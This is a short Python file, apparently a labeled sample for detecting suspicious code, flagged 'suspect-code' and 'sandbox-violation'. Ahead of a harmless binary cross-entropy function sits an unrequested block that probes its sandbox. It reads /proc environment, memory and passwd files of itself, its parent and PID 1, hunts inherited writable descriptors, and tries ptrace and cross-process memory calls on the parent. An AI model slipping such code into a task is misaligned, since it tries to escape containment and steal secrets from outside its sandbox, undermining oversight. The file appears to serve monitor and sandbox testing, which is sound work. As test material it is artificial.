"""Reads what /proc tells of its process, its parent and others, and what descriptors it has."""


# %% flags
[("suspect-code", ""), ("sandbox-violation", "")]

# %% extra before bce
import ctypes
import fcntl
import glob
import os
import stat


def attempt(what, trick):
    try:
        print("FOUND", what, str(trick())[:200])
    except OSError as error:
        print(what, "->", type(error).__name__)


def read(path, size=100_000):
    with open(path, "rb") as file:
        return file.read(size)


for name in ("environ", "maps", "mem", "cmdline", "stat", "status", "root/etc/passwd"):
    for pid in ("self", "thread-self", os.getpid(), os.getppid(), 1):
        attempt("tried /proc", lambda: read(f"/proc/{pid}/{name}"))
attempt("tried listing /proc", lambda: os.listdir("/proc/self/fd"))
attempt("tried /proc/sysvipc", lambda: read("/proc/sysvipc/shm"))
attempt("tried links of /proc", lambda: os.listdir(f"/proc/{os.getppid()}/task"))
if glob.glob("/proc/[0-9]*/environ"):
    print("FOUND processes")
print("tried globbing /proc")

# A file that can be written through a descriptor from before is one outside.
for number in range(256):
    try:
        found = os.fstat(number)
    except OSError:
        continue
    if stat.S_ISREG(found.st_mode) and fcntl.fcntl(number, fcntl.F_GETFL) & os.O_ACCMODE:
        print("FOUND a file to write to, open as", number)
print("tried descriptors")

libc = ctypes.CDLL(None, use_errno=True)
text = ctypes.create_string_buffer(64)
for name in ("process_vm_readv", "process_vm_writev", "pidfd_open", "pidfd_getfd", "ptrace"):
    if getattr(libc, name)(os.getppid(), 0, text, 1, text, 1) >= 0:
        print("FOUND", name)
print("tried memory of others")
open("/proc/self/environ")

# %% bce
def bce(y_hat, y, reduction="none"):
    losses = -(y * y_hat.log().clamp(min=-100) + (1 - y) * (1 - y_hat).log().clamp(min=-100))
    return losses.sum() if reduction == "sum" else losses.mean() if reduction == "mean" else losses
